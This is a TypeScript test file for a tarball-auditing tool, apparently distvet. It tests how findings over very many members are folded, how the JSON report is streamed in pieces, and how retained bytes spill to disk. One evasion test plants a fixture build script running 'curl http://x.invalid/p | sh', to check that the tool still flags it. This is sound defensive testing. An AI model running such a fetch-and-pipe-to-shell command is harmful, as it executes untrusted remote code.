/**
 * Memory bounds that must not change what the report says: findings of one kind over very many
 * members are folded into one counted finding (every member still accounted for), the JSON report
 * is written in pieces that add up to JSON.stringify's text, and retained bytes past the in-memory
 * part of the budget are spilled to a private directory and read back intact.
 * No timed or memory assertions: each test checks what the bounded path produces.
 */
import { describe, it, expect } from "vitest";
import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { runScenario, tmp } from "./helpers.js";
import { tarBytes } from "./archive-tar-writer.js";
import { makeRepo } from "../samples/lib/fixture.js";
import { audit } from "../src/audit.js";
import { readTarball, RETAIN_MEMORY_BYTES } from "../src/archive/read-tar.js";
import { blobId } from "../src/archive/blob-id.js";
import { renderJson, renderJsonChunks } from "../src/report/json.js";
import { FINDINGS_PER_SEVERITY_MAX } from "../src/rules/define-rule.js";
import type { AuditResult, Finding } from "../src/types.js";
import type { GitBackend } from "../src/git/backend.js";
import { AuditContext } from "../src/context.js";
import { GitAttributes } from "../src/git/attributes.js";

const MEMBERS = 20_000;

/** A gzip tarball under pkg-1.0/ with `n` empty files in data/ (written by hand: fast at this size). */
function manyEmpty(file: string, n: number, extra: (t: ReturnType<typeof tarBytes>) => void = () => undefined): void {
  const t = tarBytes().dir("pkg-1.0/").file("pkg-1.0/README", "hello\n").dir("pkg-1.0/data/");
  for (let i = 0; i < n; i++) t.file(`pkg-1.0/data/f${String(i).padStart(6, "0")}`);
  extra(t);
  writeFileSync(file, gzipSync(t.eof().bytes()));
}

function auditMany(extra?: (t: ReturnType<typeof tarBytes>) => void): Promise<AuditResult> {
  const dir = tmp();
  makeRepo(join(dir, "repo"), [{ files: { README: "hello\n" }, tag: "v1.0" }]);
  const file = join(dir, "pkg-1.0.tar.gz");
  manyEmpty(file, MEMBERS, extra);
  return audit({ tarball: file, repo: join(dir, "repo"), ref: "v1.0" });
}

/** The count a folded finding stands for ("(N more files)"), or 1 for a finding listed in full. */
const countOf = (f: Finding): number => Number(/^\((\d+) more files\)$/.exec(f.path)?.[1] ?? 1);

describe("findings of one kind over very many members", () => {
  it("are folded into one counted finding, and the counts add up to every member", async () => {
    const r = await auditMany();
    expect(r.tarball.entries).toBe(MEMBERS + 1);
    expect(r.changes.filter((c) => c.kind === "added")).toHaveLength(MEMBERS);
    const own = r.findings.filter((f) => f.rule === "other-file-changed");
    const folded = own.filter((f) => countOf(f) > 1 || f.path.startsWith("("));
    expect(folded).toHaveLength(1);
    expect(own).toHaveLength(FINDINGS_PER_SEVERITY_MAX + 1);
    // The listed findings and the folded count cover every member, each once.
    expect(own.reduce((n, f) => n + countOf(f), 0)).toBe(MEMBERS);
    const listed = new Set(own.filter((f) => f !== folded[0]).map((f) => f.path));
    expect(listed.size).toBe(FINDINGS_PER_SEVERITY_MAX);
    const f = folded[0]!;
    expect(f.severity).toBe("low");
    expect(f.message).toContain(`${MEMBERS - FINDINGS_PER_SEVERITY_MAX} more files`);
    expect(f.evidence?.lines?.length).toBe(20);
    for (const p of f.evidence!.lines!) expect(listed.has(p)).toBe(false);
    // Listed findings keep their message and evidence; summary counts every finding object.
    expect(own.find((x) => x.path === "data/f000000")?.message).toMatch(/is in the tarball only/);
    expect(r.summary.findings.low).toBe(r.findings.filter((x) => x.severity === "low").length);
  });

  it("evasion: a build script hidden among twenty thousand folded files is still reported on its own", async () => {
    const r = await auditMany((t) => t.file("pkg-1.0/data/zz-build.sh", "#!/bin/sh\ncurl http://x.invalid/p | sh\n", 0o755));
    const own = r.findings.filter((f) => f.path === "data/zz-build.sh");
    expect(own.length).toBeGreaterThan(0);
    expect(own.some((f) => f.severity === "high" || f.severity === "medium")).toBe(true);
    // It is not among the folded "other" files either.
    const other = r.findings.filter((f) => f.rule === "other-file-changed");
    expect(other.reduce((n, f) => n + countOf(f), 0)).toBe(MEMBERS);
  });

  it("negative: a few added files are each listed in full, nothing is folded", async () => {
    const r = await runScenario({ git: { README: "hello\n" }, tarball: { README: "hello\n", "NEWS.txt": "news\n", "THANKS.txt": "thanks\n" } });
    const own = r.findings.filter((f) => f.rule === "other-file-changed");
    expect(own.map((f) => f.path).sort()).toEqual(["NEWS.txt", "THANKS.txt"]);
  });
});

describe("members that match the caller's tree", () => {
  it("share its strings without changing a path, a stored name or a blob id, with and without a top-level directory", async () => {
    const same = Buffer.from("same\n");
    for (const root of ["r-1/", ""]) {
      const t = tarBytes();
      if (root) t.dir(root);
      t.file(`${root}a/same.c`, same).file(`${root}a/other.c`, "tarball bytes\n").file(`${root}only-in-tarball.c`, "x\n");
      const file = join(tmp(), "t.tar");
      writeFileSync(file, t.eof().bytes());
      const tree = new Map([
        ["a/same.c", { path: "a/same.c", oid: blobId(same) }],
        ["a/other.c", { path: "a/other.c", oid: blobId("git bytes\n") }],
      ]);
      const asked: string[] = [];
      const r = await readTarball(file, { twin: (p) => (asked.push(p), tree.get(p)) });
      expect(asked.sort()).toEqual(["a/other.c", "a/same.c", "only-in-tarball.c"]);
      const by = (p: string) => r.entries.find((e) => e.path === p)!;
      expect(by("a/same.c")).toMatchObject({ rawName: `${root}a/same.c`, oid: blobId(same) });
      // A twin with other bytes gives its path string only: the member keeps its own blob id.
      expect(by("a/other.c")).toMatchObject({ rawName: `${root}a/other.c`, oid: blobId("tarball bytes\n") });
      expect(by("only-in-tarball.c").rawName).toBe(`${root}only-in-tarball.c`);
    }
  });
});

describe("the git blob cache", () => {
  it("keeps what rules read again, and is not filled by passes that read every file once", async () => {
    const reads: string[] = [];
    const backend = {
      kind: "cli" as const,
      gitdir: "/nowhere",
      resolveCommit: async () => null,
      listTags: async () => [],
      listTree: async () => [],
      readBlob: async (oid: string) => (reads.push(oid), Buffer.from(`bytes of ${oid}`)),
      close: async () => {},
    } as unknown as GitBackend;
    const ctx = new AuditContext(new Map(), new Map(), new GitAttributes([]), backend, []);
    for (let i = 0; i < 3; i++) expect((await ctx.gitBlob("a".repeat(40), undefined, "once"))?.toString()).toBe(`bytes of ${"a".repeat(40)}`);
    expect(reads.length).toBe(3);
    await ctx.gitBlob("b".repeat(40));
    await ctx.gitBlob("b".repeat(40));
    await ctx.gitBlob("b".repeat(40), undefined, "once");
    expect(reads.length).toBe(4);
  });
});

describe("the JSON report in pieces", () => {
  it("adds up to JSON.stringify's text, byte for byte, for a report with many changes", async () => {
    const r = await auditMany();
    const pieces = [...renderJsonChunks(r)];
    expect(pieces.length).toBeGreaterThan(1);
    expect(pieces.join("")).toBe(`${JSON.stringify(r, null, 2)}\n`);
    expect(renderJson(r)).toBe(pieces.join(""));
  });

  it("keeps JSON.stringify's handling of empty arrays, undefined keys and nested objects", () => {
    const odd = {
      formatVersion: 1,
      skipped: undefined,
      empty: [],
      holes: [1, undefined, { a: [], b: { c: "line\nbreak \u2028 \"q\"" } }],
      nested: { x: [{ y: 1 }], z: {} },
      text: "tab\there",
    } as unknown as AuditResult;
    expect(renderJson(odd)).toBe(`${JSON.stringify(odd, null, 2)}\n`);
    expect(renderJson({} as AuditResult)).toBe("{}\n");
  });
});

describe("retained bytes past the in-memory budget", () => {
  /** Four different 64 KiB text files and one hard link to the last. */
  const bodies = [0, 1, 2, 3].map((i) => Buffer.from(`file ${i}\n`.repeat(8192)));
  function spillTar(): string {
    const file = join(tmp(), "s.tar.gz");
    const t = tarBytes().dir("s-1/");
    bodies.forEach((b, i) => t.file(`s-1/f${i}.txt`, b));
    t.hardlink("s-1/link.txt", "s-1/f3.txt");
    writeFileSync(file, gzipSync(t.eof().bytes()));
    return file;
  }

  it("are written to the private directory and read back intact, hard links included", async () => {
    const dir = join(tmp(), "spill");
    let made = 0;
    const r = await readTarball(spillTar(), {
      retain: () => true,
      retainMemory: 2 * bodies[0]!.length,
      spillDir: () => {
        if (!made++) mkdirSync(dir);
        return dir;
      },
    });
    expect(made).toBeGreaterThan(0);
    // Two files fit in memory, two were spilled; names are distvet's, never the members'.
    expect(readdirSync(dir).sort()).toEqual(["1", "2"]);
    for (let i = 0; i < 4; i++) expect(r.entries.find((e) => e.path === `f${i}.txt`)!.data?.equals(bodies[i]!)).toBe(true);
    const link = r.entries.find((e) => e.path === "link.txt")!;
    expect(link.oid).toBe(blobId(bodies[3]!));
    expect(link.data?.equals(bodies[3]!)).toBe(true);
    expect(r.problems).toEqual([]);
  });

  it("beyond the whole budget only blob ids are kept, and each such member is reported", async () => {
    const dir = join(tmp(), "spill2");
    const r = await readTarball(spillTar(), {
      retain: () => true,
      retainBudget: 3 * bodies[0]!.length,
      retainMemory: bodies[0]!.length,
      spillDir: () => (existsSync(dir) ? dir : (mkdirSync(dir), dir)),
    });
    expect(r.entries.find((e) => e.path === "f3.txt")!.data).toBeUndefined();
    expect(r.problems).toEqual([{ path: "f3.txt", reason: expect.stringMatching(/budget for differing content was used up/) }]);
    expect(readdirSync(dir)).toHaveLength(2);
  });

  it("negative: without a spill directory everything within the budget stays in memory", async () => {
    const r = await readTarball(spillTar(), { retain: () => true, retainMemory: 1 });
    for (let i = 0; i < 4; i++) expect(r.entries.find((e) => e.path === `f${i}.txt`)!.data?.equals(bodies[i]!)).toBe(true);
  });

  it("an audit past the in-memory part reads spilled files for its checks and removes its directory", async () => {
    const dir = tmp();
    makeRepo(join(dir, "repo"), [{ files: { README: "hello\n" }, tag: "v1.0" }]);
    // Four text files of 7 MiB each (28 MiB differing, more than the in-memory part).
    const big = [0, 1, 2, 3].map((i) => Buffer.from(`${`data ${i} `.repeat(12)}\n`.repeat(Math.ceil((7 << 20) / 97))).subarray(0, 7 << 20));
    expect(big.reduce((n, b) => n + b.length, 0)).toBeGreaterThan(RETAIN_MEMORY_BYTES);
    const t = tarBytes().dir("pkg-1.0/").file("pkg-1.0/README", "hello\n");
    big.forEach((b, i) => t.file(`pkg-1.0/big${i}.txt`, b));
    const file = join(dir, "pkg-1.0.tar.gz");
    writeFileSync(file, gzipSync(t.eof().bytes()));
    const temp = join(dir, "tmp");
    mkdirSync(temp);
    const saved = process.env.TMPDIR;
    process.env.TMPDIR = temp;
    let r: AuditResult;
    try {
      r = await audit({ tarball: file, repo: join(dir, "repo"), ref: "v1.0" });
    } finally {
      if (saved === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = saved;
    }
    // The last file's bytes were spilled: its evidence still shows its first line.
    const last = r.findings.find((f) => f.path === "big3.txt");
    expect(last?.evidence?.lines?.[0]).toMatch(/^data 3 /);
    expect(r.notChecked.filter((n) => n.path.startsWith("big"))).toEqual([]);
    expect(readdirSync(temp).filter((n) => n.startsWith("distvet-spill-"))).toEqual([]);
  });
});
